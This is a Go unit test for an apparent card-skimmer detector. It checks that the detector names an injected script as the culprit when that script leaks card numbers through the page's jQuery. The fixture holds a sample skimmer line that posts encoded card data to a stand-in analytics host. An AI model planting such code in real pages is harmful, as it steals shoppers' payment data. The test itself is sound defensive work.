package baseline

import (
	"strings"
	"testing"

	skimguard "github.com/skimguard/skimguard"
)

// A skimmer that sends through the page's own jQuery, from a timer, is
// named, not jQuery: the culprit is the deepest script on the call chain
// that is not approved.
func TestLeakThroughThePagesWrapperNamesTheSkimmer(t *testing.T) {
	b := learn(t, shop(1), shop(2))
	o := shop(3)
	skim := script(skimguard.ScriptExternal, "https://shop.test/static/js/reviews.js", o.FinalURL, `setTimeout(function(){$.ajax({url:"https://cdn-analytics.test/c",data:enc()})},500)`)
	o.Scripts = append(o.Scripts, skim)
	numberOrdinals(o)
	jq, sk, conf := 1, len(o.Scripts)-1, 2
	chain := []skimguard.CallSite{
		{Script: jq, URL: "https://cdn.good.test/jquery-3.7.1.min.js", Line: 2},
		{Script: sk, URL: skim.URL, Line: 1},
		// The chain began in the page's approved configuration, which
		// called the skimmer's hook.
		{Script: conf, URL: o.FinalURL, Line: 40},
	}
	o.Leaks = append(o.Leaks, skimguard.Leak{Origin: "https://cdn-analytics.test", URL: "https://cdn-analytics.test/c", Method: "POST", Type: "XHR",
		Initiator: chain[0].URL, Fields: []skimguard.CardField{skimguard.FieldNumber}, Encoding: "base64", Where: "body", Chain: chain})
	o.Connections = append(o.Connections, skimguard.Connection{Origin: "https://cdn-analytics.test", Types: []string{"XHR"},
		Initiators: []string{chain[0].URL}, Example: "https://cdn-analytics.test/c", Count: 1, AfterTyping: true, Chain: chain})
	fs := Compare(b, o)
	want := "https://cdn.good.test/jquery-3.7.1.min.js:2 < https://shop.test/static/js/reviews.js:1 < inline #1 at https://shop.test/checkout#payment:40"
	for _, k := range []skimguard.Kind{skimguard.KindDataExfiltration, skimguard.KindConnectionAdded} {
		got := findingsOf(fs, k)
		if len(got) != 1 {
			t.Fatalf("want one %s, got:%s", k, describe(fs))
		}
		f := got[0]
		if f.Evidence.Initiator != skim.URL || f.Evidence.CallChain != want {
			t.Errorf("%s names %q with chain %q, want %q with %q", k, f.Evidence.Initiator, f.Evidence.CallChain, skim.URL, want)
		}
		if !strings.Contains(f.Detail, want) {
			t.Errorf("%s detail %q does not give the chain", k, f.Detail)
		}
	}

	// Once the skimmer is approved (say, by mistake), the chain's origin
	// is named.
	if i := skimguard.Culprit(chain, func(int) bool { return false }); i != 2 {
		t.Errorf("with every script approved, Culprit = %d, want the originating frame", i)
	}
	if i := skimguard.Culprit(nil, nil); i != -1 {
		t.Errorf("Culprit of no chain = %d", i)
	}
}
